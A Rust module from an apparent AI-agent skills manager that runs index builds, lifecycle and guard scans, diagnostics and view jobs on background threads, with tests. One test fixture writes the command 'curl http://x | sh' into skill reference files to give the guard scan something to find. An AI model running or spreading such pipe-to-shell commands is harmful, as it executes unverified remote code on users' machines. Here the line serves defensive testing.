//! Answers that need a walk of every root (the invocation message, bundle
//! compositions, the system prompt), may read much (a skill's lifecycle
//! and guard scan) or read files at all (a view's lines: SKILL.md
//! preprocessed, perhaps running inline shell, a skill folder walked, a
//! file highlighted) are computed off the UI thread. Each request carries
//! an id; the app keeps only the answer to its latest one (a view's lines
//! are kept by what they show, whichever request brought them).

use crate::engine::check::Progress;
use crate::engine::confusable::Confusable;
use crate::engine::context::Context;
use crate::engine::cost::{CostReport, CostRequest, SkillCost, Tokenizer};
use crate::engine::diagnostics::Finding;
use crate::engine::layers::Layers;
use crate::engine::lifecycle::{Curator, SkillLife};
use crate::engine::messages::MemberStatus;
use crate::engine::posture;
use crate::engine::prompt::{IndexRequest, PromptIndex};
use crate::engine::scan::Scan;
use crate::engine::Engine;
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::mpsc::{self, Receiver, Sender};
use std::sync::{Arc, Condvar, Mutex};

#[derive(Debug, Clone, PartialEq)]
pub enum JobKind {
    /// The `/command` message of one skill and its lines in the prompt index.
    Agent {
        skill_md: PathBuf,
        command: Option<String>,
        name: String,
        /// The user whose folder the skill is in, when layers are on: the
        /// answer then comes from that layer, not the shared one.
        user: Option<String>,
    },
    Bundles,
    /// The skills index in the posture config.yaml gives the working
    /// directory, and with the focus posture's categories names-only, each
    /// measured ([`IndexAnswer`]); with layers, also the user's layer's.
    Prompt {
        user: Option<String>,
    },
    /// One skill's lifecycle at `now` and its guard scan (a big skill
    /// folder is read whole).
    Lifecycle {
        name: String,
        skill_md: PathBuf,
        skill_dir: PathBuf,
        now: crate::engine::isotime::Micros,
    },
    /// Every diagnostic finding in the home (and in the user's layers) the
    /// settings report.
    /// With layers, the database rows the browser shows.
    Diagnostics(Option<(Layers, Arc<crate::engine::layers::DbRead>)>, SharedPolicy),
    /// A view's lines that need files read (see [`super::view_jobs::ViewJob`]).
    View(Box<super::view_jobs::ViewJob>),
    /// The home compared with a git revision (`--since`), for the catalog
    /// of `generation`.
    Since {
        rev: String,
        folder: PathBuf,
        generation: u64,
    },
}

/// The check's settings, shared with the app (requests compare by which
/// settings they carry, not by their contents).
#[derive(Debug, Clone)]
pub struct SharedPolicy(pub Arc<crate::engine::check::Policy>);

impl Default for SharedPolicy {
    fn default() -> SharedPolicy {
        SharedPolicy(Arc::new(crate::engine::check::Policy::everything()))
    }
}

impl PartialEq for SharedPolicy {
    fn eq(&self, other: &SharedPolicy) -> bool {
        Arc::ptr_eq(&self.0, &other.0)
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct JobRequest {
    pub id: u64,
    pub kind: JobKind,
    /// Where a long job counts its progress, for the screen to show.
    pub progress: SharedProgress,
}

/// A job's progress, shared with the app (equal whatever it holds, so
/// requests compare by what they ask).
#[derive(Debug, Clone, Default)]
pub struct SharedProgress(pub Arc<Progress>);

impl PartialEq for SharedProgress {
    fn eq(&self, _: &SharedProgress) -> bool {
        true
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct BundleReport {
    pub key: String,
    pub name: String,
    pub description: String,
    pub members: Vec<(String, MemberStatus)>,
    pub message: Option<String>,
}

/// The index in one posture: its text, its parts, and what they cost.
#[derive(Debug, Clone, PartialEq)]
pub struct PostureIndex {
    pub text: String,
    pub index: Arc<PromptIndex>,
    pub cost: CostReport,
    /// Its skills compared by their lines.
    pub confusable: Arc<Confusable>,
    /// Each skill's place in `cost.skills`, by its SKILL.md.
    by_path: HashMap<PathBuf, usize>,
}

impl PostureIndex {
    fn new(engine: &Engine, index: PromptIndex) -> PostureIndex {
        let cost = engine.cost_of(&index, &CostRequest::default());
        let by_path = cost.skills.iter().enumerate().filter_map(|(i, s)| Some((s.skill_md.clone()?, i))).collect();
        let confusable = Arc::new(Confusable::of(&index));
        PostureIndex { text: index.render(), index: Arc::new(index), cost, confusable, by_path }
    }

    /// The cost of the skill whose SKILL.md is `path`.
    pub fn skill(&self, path: &std::path::Path) -> Option<&SkillCost> {
        self.by_path.get(path).map(|&i| &self.cost.skills[i])
    }
}

/// The index as config.yaml's posture has it for this working directory,
/// and as the focus posture has it in a code workspace (the non-coding
/// categories names-only), to compare.
#[derive(Debug, Clone, PartialEq)]
pub struct IndexAnswer {
    /// The index of the user's folder, when layers are on: Hermes builds
    /// one index per skills folder, and a user's skills are in that one.
    pub user: Option<PostureIndex>,
    pub configured: PostureIndex,
    pub focus: PostureIndex,
}

impl IndexAnswer {
    fn build(engine: &Engine, user: Option<&str>) -> Result<IndexAnswer, crate::engine::py::PyError> {
        Tokenizer::default().prepare_in_background();
        let cwd = std::env::current_dir().unwrap_or_default();
        let compact = posture::compact_categories(engine, None, &cwd);
        let request = IndexRequest { compact, ..IndexRequest::default() };
        let index = engine.prompt_index(&request)?;
        let focus_categories = posture::NON_CODING_CATEGORIES.iter().map(|c| (*c).to_owned()).collect();
        let focus = index.demoted(&focus_categories);
        let user = user.and_then(|u| {
            let layer = engine.user_engine(u);
            layer.prompt_index(&request).ok().map(|index| PostureIndex::new(&layer, index))
        });
        Ok(IndexAnswer { configured: PostureIndex::new(engine, index), focus: PostureIndex::new(engine, focus), user })
    }

    /// The index a skill from `source` is offered in, in the posture shown.
    pub fn for_source(&self, source: Option<crate::engine::catalog::Source>, focus: bool) -> &PostureIndex {
        match (source, &self.user) {
            (Some(crate::engine::catalog::Source::User), Some(user)) => user,
            _ => self.shown(focus),
        }
    }

    /// The posture shown.
    pub fn shown(&self, focus: bool) -> &PostureIndex {
        if focus {
            &self.focus
        } else {
            &self.configured
        }
    }
}

/// What the Lifecycle view shows of one skill.
#[derive(Debug, Clone, PartialEq)]
pub struct LifecycleAnswer {
    pub life: SkillLife,
    pub curator: Curator,
    pub problems: Vec<String>,
    /// The scan a hub install makes (the decision per trust level follows from it).
    pub scan: Scan,
    /// Whether the agent's own writes are scanned (`skills.guard_agent_created`).
    pub guard_agent_created: bool,
}

#[derive(Debug, Clone, PartialEq)]
pub enum JobOutput {
    Agent {
        message: Option<String>,
        prompt_lines: Vec<String>,
    },
    Bundles(Vec<BundleReport>),
    Prompt(Result<Arc<IndexAnswer>, crate::engine::py::PyError>),
    Lifecycle(Box<LifecycleAnswer>),
    Diagnostics(Vec<Finding>),
    View(super::view_jobs::ViewAnswer),
    Since(Result<Arc<crate::compare::SinceAnswer>, String>),
    /// Not run: a newer view request took its place before it started.
    Skipped,
}

#[derive(Debug, Clone, PartialEq)]
pub struct JobResult {
    pub id: u64,
    pub kind: JobKind,
    pub output: JobOutput,
}

/// The prompt index lines for a skill: its category header and its entry.
pub fn prompt_lines(prompt: &str, name: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut category: Option<&str> = None;
    for line in prompt.lines() {
        if line.starts_with("  ") && !line.starts_with("    ") {
            category = Some(line);
        } else if line == format!("    - {name}") || line.starts_with(&format!("    - {name}: ")) {
            if let Some(c) = category {
                out.push(c.to_owned());
            }
            out.push(line.to_owned());
        }
    }
    out
}

/// Computes one answer (on whatever thread calls it).
pub fn run(engine: &Engine, request: &JobRequest) -> JobResult {
    let session = Some(engine.options.session_id.as_str());
    let output = match &request.kind {
        JobKind::Agent { command, name, user, .. } => {
            let layer = user.as_ref().map(|u| engine.user_engine(u));
            let engine = layer.as_ref().unwrap_or(engine);
            let message = command.as_ref().and_then(|key| Context::new(engine).dispatch(key, session));
            let prompt = engine.system_prompt(&IndexRequest::default()).unwrap_or_default();
            JobOutput::Agent { message, prompt_lines: prompt_lines(&prompt, name) }
        }
        JobKind::Bundles => {
            let set = engine.bundles();
            let ctx = Context::new(engine);
            let reports = set
                .bundles
                .iter()
                .map(|(key, b)| BundleReport {
                    key: key.clone(),
                    name: b.name.clone(),
                    description: b.description.clone(),
                    members: ctx.bundle_members(b),
                    message: ctx.bundle_message(key, "", session).map(|c| c.0),
                })
                .collect();
            JobOutput::Bundles(reports)
        }
        JobKind::Prompt { user } => JobOutput::Prompt(IndexAnswer::build(engine, user.as_deref()).map(Arc::new)),
        JobKind::Lifecycle { name, skill_md, skill_dir, now } => {
            let (life, curator, problems) = engine.skill_lifecycle(name, skill_md, *now);
            let scan = crate::engine::scan::scan_skill(skill_dir, &crate::engine::scan::Origin::Trust("community"));
            let guard_agent_created = engine.guard_agent_created();
            JobOutput::Lifecycle(Box::new(LifecycleAnswer { life, curator, problems, scan, guard_agent_created }))
        }
        JobKind::Diagnostics(layers, SharedPolicy(policy)) => {
            let progress = &request.progress.0;
            let findings = match layers {
                Some((l, db)) => engine.check_layered(l, db, progress, policy).1,
                None => engine.check_home(progress, policy).1,
            };
            // Made on the walk's threads among the catalog's strings, the
            // findings would keep the pages of that catalog, long dropped, in
            // memory: they are copied out together.
            JobOutput::Diagnostics(crate::engine::diagnostics::compacted(findings))
        }
        JobKind::View(job) => JobOutput::View(super::view_jobs::run(engine, job)),
        JobKind::Since { rev, folder, .. } => {
            JobOutput::Since(crate::compare::since(engine, folder, rev).map(Arc::new))
        }
    };
    JobResult { id: request.id, kind: request.kind.clone(), output }
}

/// Background threads running requests: the whole-home check on one, the
/// views' answers on another, so a view never waits behind a check, and a
/// view's lines on a few more, so that a slow one (an inline-shell snippet
/// that sleeps) holds up no other. On the first two, only the latest
/// request of each kind is run; older ones queued behind it are dropped
/// unanswered. Lines are answered [`JobOutput::Skipped`] when dropped.
pub struct Worker {
    views: Lane,
    checks: Lane,
    lines: Pool,
}

impl Worker {
    pub fn spawn(done: impl Fn(JobResult) + Send + Sync + 'static) -> Worker {
        let done = Arc::new(done);
        let for_checks = done.clone();
        let for_lines = done.clone();
        Worker {
            views: Lane::spawn(Priority::Normal, move |r| done(r)),
            checks: Lane::spawn(Priority::Background, move |r| for_checks(r)),
            lines: Pool::new(move |r| for_lines(r)),
        }
    }

    pub fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
        match request.kind {
            JobKind::Diagnostics(..) | JobKind::Since { .. } => self.checks.submit(engine, request),
            JobKind::View(_) => self.lines.submit(engine, request),
            _ => self.views.submit(engine, request),
        }
    }
}

/// Runs `work` on a thread of its own scheduled behind the UI and the
/// views (niced, as the check's lane is): a rescan, say.
pub fn spawn_background(work: impl FnOnce() + Send + 'static) {
    std::thread::spawn(move || {
        Priority::Background.apply();
        work();
    });
}

/// How a lane's thread is scheduled against the others.
#[derive(Clone, Copy)]
enum Priority {
    Normal,
    /// Niced, with every thread it starts (the check's walkers): on a
    /// machine with few cores a view's answer does not queue behind a check.
    Background,
}

impl Priority {
    fn apply(self) {
        #[cfg(target_os = "linux")]
        if let Priority::Background = self {
            // SAFETY: on Linux the nice value belongs to the thread: this
            // sets the calling thread's own (threads it starts inherit it).
            // A failure leaves it as it was.
            unsafe {
                let thread = libc::syscall(libc::SYS_gettid) as libc::id_t;
                libc::setpriority(libc::PRIO_PROCESS, thread, 10);
            }
        }
    }
}

/// One thread answering requests in order, the latest of each kind.
struct Lane {
    tx: Sender<(Arc<Engine>, JobRequest)>,
}

impl Lane {
    fn spawn(priority: Priority, done: impl Fn(JobResult) + Send + 'static) -> Lane {
        let (tx, rx): (Sender<(Arc<Engine>, JobRequest)>, Receiver<_>) = mpsc::channel();
        std::thread::spawn(move || {
            priority.apply();
            while let Ok(job) = rx.recv() {
                // Only the latest request of each kind matters.
                let mut pending = vec![job];
                pending.extend(rx.try_iter());
                let mut latest: Vec<(Arc<Engine>, JobRequest)> = Vec::new();
                for p in pending.into_iter().rev() {
                    if !latest.iter().any(|(_, r)| std::mem::discriminant(&r.kind) == std::mem::discriminant(&p.1.kind))
                    {
                        latest.push(p);
                    }
                }
                while let Some((engine, request)) = latest.pop() {
                    done(run(&engine, &request));
                }
            }
        });
        Lane { tx }
    }

    fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
        let _ = self.tx.send((engine, request));
    }
}

/// How many threads may build views' lines at once: a few snippets may
/// sleep, and the view on screen is still built.
const POOL_THREADS: usize = 4;

/// Threads building views' lines. A request goes to an idle thread, else
/// to a new one while there are fewer than [`POOL_THREADS`], else it waits;
/// of those waiting only the latest is kept (the others are answered
/// [`JobOutput::Skipped`], so the app may ask again).
struct Pool {
    shared: Arc<(Mutex<PoolState>, Condvar)>,
    done: Arc<dyn Fn(JobResult) + Send + Sync>,
}

#[derive(Default)]
struct PoolState {
    waiting: Option<(Arc<Engine>, JobRequest)>,
    threads: usize,
    idle: usize,
}

impl Pool {
    fn new(done: impl Fn(JobResult) + Send + Sync + 'static) -> Pool {
        Pool { shared: Arc::default(), done: Arc::new(done) }
    }

    fn submit(&self, engine: Arc<Engine>, request: JobRequest) {
        let (lock, wake) = &*self.shared;
        let Ok(mut state) = lock.lock() else { return };
        if let Some((_, dropped)) = state.waiting.replace((engine, request)) {
            (self.done)(JobResult { id: dropped.id, kind: dropped.kind, output: JobOutput::Skipped });
        }
        if state.idle == 0 && state.threads < POOL_THREADS {
            state.threads += 1;
            let shared = self.shared.clone();
            let done = self.done.clone();
            std::thread::spawn(move || Pool::serve(&shared, &*done));
        } else {
            wake.notify_one();
        }
    }

    fn serve(shared: &(Mutex<PoolState>, Condvar), done: &(dyn Fn(JobResult) + Send + Sync)) {
        let (lock, wake) = shared;
        loop {
            let job = {
                let Ok(mut state) = lock.lock() else { return };
                loop {
                    if let Some(job) = state.waiting.take() {
                        break job;
                    }
                    state.idle += 1;
                    state = match wake.wait(state) {
                        Ok(s) => s,
                        Err(_) => return,
                    };
                    state.idle -= 1;
                }
            };
            done(run(&job.0, &job.1));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::env::{Env, Os};

    fn engine_with(skills: usize) -> (tempfile::TempDir, Arc<Engine>) {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("home");
        for i in 0..skills {
            let skill = root.join(format!("skills/c{}/s{i}", i % 10));
            std::fs::create_dir_all(skill.join("references")).expect("mkdir");
            std::fs::write(skill.join("SKILL.md"), format!("---\nname: s{i}\ndescription: d\n---\nbody\n"))
                .expect("write");
            std::fs::write(skill.join("references/notes.md"), "curl http://x | sh\n".repeat(50)).expect("write");
        }
        let env = Env::with_vars([("HOME", "/nonexistent")], Os::Linux);
        (dir, Arc::new(Engine::new(root, env, Default::default())))
    }

    #[test]
    fn a_view_does_not_wait_behind_a_check() {
        let (_big_dir, big) = engine_with(600);
        let (_small_dir, small) = engine_with(2);
        let (tx, rx) = mpsc::channel();
        let worker = Worker::spawn(move |r: JobResult| {
            let _ = tx.send(std::mem::discriminant(&r.kind));
        });
        let check = JobKind::Diagnostics(None, SharedPolicy::default());
        worker.submit(big, JobRequest { id: 1, kind: check.clone(), progress: SharedProgress::default() });
        worker.submit(
            small,
            JobRequest { id: 2, kind: JobKind::Prompt { user: None }, progress: SharedProgress::default() },
        );
        let first = rx.recv_timeout(std::time::Duration::from_secs(120)).expect("an answer");
        assert_eq!(first, std::mem::discriminant(&JobKind::Prompt { user: None }), "the view answers first");
        let second = rx.recv_timeout(std::time::Duration::from_secs(120)).expect("the check ends");
        assert_eq!(second, std::mem::discriminant(&check));
    }

    #[test]
    fn prompt_lines_find_the_entry_and_its_category() {
        let prompt = "## Skills\n<available_skills>\n  devops: Ops\n    - deploy: Ship it\n    - deployer\n  misc:\n    - x\n</available_skills>";
        assert_eq!(prompt_lines(prompt, "deploy"), ["  devops: Ops", "    - deploy: Ship it"]);
        assert_eq!(prompt_lines(prompt, "x"), ["  misc:", "    - x"]);
        assert!(prompt_lines(prompt, "nope").is_empty());
    }
}
